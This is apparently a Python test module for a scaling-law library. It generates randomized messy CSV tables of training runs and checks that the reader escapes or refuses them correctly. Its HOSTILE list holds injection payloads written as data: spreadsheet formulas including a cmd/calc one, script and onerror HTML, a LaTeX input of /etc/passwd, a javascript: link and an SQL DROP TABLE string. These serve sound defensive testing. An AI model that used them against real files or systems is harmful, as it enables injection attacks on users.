"""Tables as people really save them: an ordinary table of runs with defects combined at random, from a seed."""

from __future__ import annotations

import csv
import gzip
import io
import math
import re
from dataclasses import dataclass, field
from typing import Any

import numpy as np

from bayescale.errors import CODES, BayescaleError
from bayescale.reading import read_runs
from bayescale.tables.escaping import html_text, inert_csv, latex_text, markdown_text

BLANKS = ("", " ", "-", "N/A", "nan", "NULL", "—", "#N/A", "?")
HOSTILE = (
    '=HYPERLINK("http://x.example/"&A1)',
    "=1+1",
    "+SUM(A1:A9)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "＝1+1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\\input{/etc/passwd}",
    "$x^2$ & 50% #1 _a_ {b}",
    "[a](javascript:alert(1))",
    "x" * 20_000,
    "naïve 模型 🚀",
    "a\u202eb\u200bc",
    "70B",
    "1e9",
    "'; DROP TABLE runs; --",
)
WRONG = ("0", "-1", "inf", "OOM", "3-May", "2024-01-05", "true", "1e400", "12,34,5", "#####")
EXTRA = ("lr", "seed", "batch_size", "acc", "loss_train", "steps", "state", "split", "epochs", "active_params")
NAMES = {
    "params": ("params", "N", "n_params", "Model Size", "num_parameters", "config.n_params", "size_params"),
    "tokens": ("tokens", "D", "train_tokens", "Tokens Seen", "config.tokens"),
    "flops": ("flops", "C", "Training FLOP", "compute", "total_flops"),
    "loss": ("loss", "val_loss", "Validation Loss", "metrics.eval_loss", "final_val_loss", "L", "cross-entropy"),
    "tag": ("tag", "note", "comment", "my label"),
}
ENCODINGS = ("utf-8", "utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-32", "cp1252", "latin-1")
#: Codes of notes that admit a change of a value, by column.
ADMITS = {
    "params": {"BS-R008", "BS-R009", "BS-R011"},
    "tokens": {"BS-R008", "BS-R009", "BS-R011"},
    "flops": {"BS-R010", "BS-R056", "BS-R011"},
    "loss": {"BS-R053"},
}


@dataclass
class Messy:
    """A file, the options it is read with, the runs it stands for by tag, and the defects that it has."""

    content: bytes
    suffix: str
    options: dict[str, Any]
    truth: dict[str, dict[str, float]]
    rows: int
    defects: list[str] = field(default_factory=list)


def messy(seed: int) -> Messy:
    """The table of a seed: up to eight defects at once."""
    rng = np.random.default_rng(seed)

    def maybe(chance: float) -> bool:
        return bool(rng.random() < chance)

    def pick(options):
        return options[int(rng.integers(len(options)))]

    defects: list[str] = []

    def has(defect: str, chance: float) -> bool:
        if maybe(chance):
            defects.append(defect)
            return True
        return False

    count = int(rng.integers(1, 16))
    n = np.round(10 ** rng.uniform(6.5, 10, count))
    d = np.round(10 ** rng.uniform(8.5, 12, count))
    loss = np.round((1.7 + 480 * n**-0.35 + 2085 * d**-0.37) * np.exp(0.01 * rng.standard_normal(count)), 6)
    tags = [f"t{k}" for k in range(count)]
    columns: dict[str, list[float]] = {"params": n.tolist(), "tokens": d.tolist(), "loss": loss.tolist()}
    if maybe(0.4):
        ratio = pick((1.0, 1.0, 1.2, 0.3, 3.0))
        columns["flops"] = (ratio * 6 * n * d).tolist()
        if has("no tokens", 0.3):
            del columns["tokens"]
    truth = {t: {q: columns[q][k] for q in columns} for k, t in enumerate(tags)}

    headers = {q: pick(NAMES[q]) if has("names", 0.5) else q for q in (*columns, "tag")}
    options: dict[str, Any] = {}
    delimiter = pick((",", ",", ";", "\t", "|"))
    mark = "," if has("decimal comma", 0.2) else "."
    styles = {q: pick(("plain", "repr", "exponent", "thousands", "multiple", "times")) for q in columns}
    divided: dict[str, float] = {}
    for q in columns:
        if q != "loss" and has(f"unit of {q}", 0.12):
            divided[q] = pick((1e3, 1e6, 1e9)) if q != "flops" else pick((1e18, 1e21, 8.64e19))
            if maybe(0.4):
                word = {1e3: "K", 1e6: "M", 1e9: "B", 1e18: "EFLOP", 1e21: "ZFLOP", 8.64e19: "PF-days"}[divided[q]]
                headers[q] += f" ({word})"
    if has("perplexity", 0.06):
        columns["loss"] = [math.exp(x) for x in columns["loss"]]
        headers["loss"] = pick(("ppl", "val_ppl", "loss"))

    def cell(q: str, x: float) -> str:
        x = x / divided.get(q, 1.0)
        style = styles[q]
        if style == "multiple" and q != "loss" and q not in divided and q != "flops":
            word, factor = pick((("M", 1e6), ("B", 1e9), ("k", 1e3), (" B", 1e9)))
            text = f"{x / factor!r}{word}"
        elif style == "exponent":
            text = f"{x:.12e}"
        elif style == "thousands" and x == int(x) and mark == "." and delimiter != ",":
            text = f"{int(x):,d}"
        elif style == "times" and x > 0:
            power = math.floor(math.log10(x))
            text = f"{x / 10.0**power!r}{pick((' x 10^', '×10^', '*10**'))}{power}"
        elif style == "plain" and x == int(x):
            text = str(int(x))
        else:
            text = repr(float(x))
        return text.replace(".", ",") if mark == "," else text

    table = [[*(cell(q, columns[q][k]) for q in columns), tags[k]] for k in range(count)]
    order = list(rng.permutation(len(columns) + 1))
    names = [*(headers[q] for q in columns), headers["tag"]]
    kinds = [*columns, "tag"]
    if has("bad cell", 0.25):
        for _ in range(int(rng.integers(1, 4))):
            bad = pick(
                (*BLANKS, "0", "-1", "inf", "OOM", "3-May", "2024-01-05", "true", "1e400", "12,34,5", *HOSTILE[:3])
            )
            table[int(rng.integers(count))][int(rng.integers(len(columns)))] = bad
    if has("drop missing", 0.3):
        options["drop_missing"] = True
    if has("hostile", 0.4):
        names.append(pick(("run", "family", "who", "notes <b>", "=cmd()")))
        kinds.append("text")
        order.append(len(order))
        for row in table:
            row.append(pick(HOSTILE))
    if has("extra column", 0.3):
        extra = pick(
            ("lr", "seed", "batch_size", "acc", "loss_train", "steps", "state", "split", "epochs", "active_params")
        )
        names.append(extra)
        kinds.append("extra")
        order.append(len(order))
        for row in table:
            row.append(str(pick(("0.001", "1", "2", "train", "val", "finished", "crashed", "1e8", ""))))
    if has("copies", 0.2):
        table += [list(table[int(rng.integers(count))]) for _ in range(int(rng.integers(1, 3)))]
    if has("totals", 0.06):
        table.append(["total" if kinds[k] == "tag" else "1" for k in range(len(names))])
    rows = len(table)
    table = [[row[k] for k in order] for row in table]
    names = [names[k] for k in order]
    if has("ragged", 0.06):
        row = table[int(rng.integers(len(table)))]
        row.append("9") if maybe(0.5) else row.pop()
    if has("index column", 0.15):
        names, table = ["", *names], [[str(k), *row] for k, row in enumerate(table)]
    if has("no header", 0.03):
        names = table[0]

    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter, lineterminator="\n")
    writer.writerow(names)
    writer.writerows(table)
    lines = out.getvalue().split("\n")
    if has("comment", 0.15):
        lines.insert(0, "# exported " + pick(("today", "by me, at home", "=1+1")))
    if has("blank line", 0.15):
        lines.insert(int(rng.integers(1, len(lines))), pick(("", delimiter * (len(names) - 1))))
    if has("trailing delimiter", 0.08):
        lines = [line + delimiter if line else line for line in lines]
    text = pick(("\n", "\n", "\r\n")).join(lines)
    encoding = pick(ENCODINGS) if has("encoding", 0.3) else "utf-8"
    content = text.encode(encoding, "replace")
    suffix = ".tsv" if delimiter == "\t" and maybe(0.5) else ".csv"
    if has("gzip", 0.05):
        content, suffix = gzip.compress(content, mtime=0), suffix + ".gz"
    if has("filter", 0.1):
        options["where"] = pick(("loss < 3", "params > 1e8", "tokens > 0 and loss > 0"))
    if has("stated units", 0.3):
        options["units"] = {q: divided.get(q, 1) for q in columns if q != "loss" and "(" not in headers[q]}
        options["loss_unit"] = "ppl" if "perplexity" in defects else "nats/token"
    return Messy(content, suffix, options, truth, rows, defects)


def examine(made: Messy, path) -> str:
    """Read a table and hold it against what it stands for: the code of a refusal, or "read".

    Raises `AssertionError` for an untyped error, a silent change of a value, a row lost without a word, a number that
    is none, and text that stays alive in an output.
    """
    path.write_bytes(made.content)
    try:
        runs = read_runs(path, **made.options)
    except BayescaleError as error:
        assert error.code in CODES and error.message and (error.remedy or error.code in ("BS-R037", "BS-R030")), error
        assert len(str(error)) < 3000, "a message does not repeat a huge cell"
        return error.code
    codes = {note.code for note in runs.notes}
    assert codes <= set(CODES)
    for q in ("params", "tokens", "flops", "loss"):
        if q in runs.columns:
            values = runs.values(q)
            assert values.dtype == np.float64 and np.isfinite(values).all() and (values > 0).all(), q
    _rows_are_accounted_for(made, runs)
    _values_are_the_truth(made, runs, codes)
    _text_is_inert(runs)
    return "read"


def _rows_are_accounted_for(made: Messy, runs) -> None:
    left_out = 0
    for note in runs.notes:
        if note.code == "BS-R014":
            left_out += int(re.match(r"(\d+) row", note.message)[1])
        elif note.code == "BS-R052":
            kept = re.match(r"kept the (\d+) of (\d+) rows", note.message)
            left_out += int(kept[2]) - int(kept[1]) if kept else int(re.match(r"(\d+) row", note.message)[1])
    assert len(runs) + left_out == runs.rows_read, "a row was lost without a word"
    # A first row in the place of the header and a row of units are said as such.
    unsaid = made.rows - runs.rows_read
    assert unsaid == 0 or "no header" in made.defects or "BS-R031" in {n.code for n in runs.notes}


def _values_are_the_truth(made: Messy, runs, codes: set[str]) -> None:
    tag = next((c for c in runs.columns if runs.frame[c].astype(str).isin(list(made.truth)).any()), None)
    if tag is None:
        return
    frame = runs.frame
    for label, row in zip(frame[tag].astype(str), frame.to_dict("records"), strict=True):
        if label not in made.truth:
            continue
        for q, true in made.truth[label].items():
            if q == "params" and runs.column_map.get(q) == "active_params":
                continue  # a column of its own, which was taken for N and said
            if q not in row or ("bad cell" in made.defects and not np.isclose(row[q], true, rtol=1e-6)):
                continue  # a cell that was overwritten with another number is that number
            same = np.isclose(row[q], true, rtol=1e-6)
            assert same or codes & ADMITS[q], f"{q} of {label} is {row[q]!r} and was {true!r}: {sorted(codes)}"


def _text_is_inert(runs) -> None:
    for row in csv.reader(io.StringIO(inert_csv(runs.frame))):
        for cell in row:
            try:
                float(cell)
            except ValueError:
                assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "＝")), cell[:60]
    page = runs._repr_html_()
    assert "<script" not in page and "<img" not in page
    for text in {str(v)[:200] for c in runs.frame for v in runs.frame[c].tolist() if isinstance(v, str)}:
        assert not re.search(r"<[a-z]", html_text(text) + markdown_text(text))
        assert not re.search(r"(?<!\\)\]\(", markdown_text(text))
        assert not re.search(r"(?<!\\)[$&%#]|\\input\{", latex_text(text).replace("\\(", "").replace("\\)", ""))
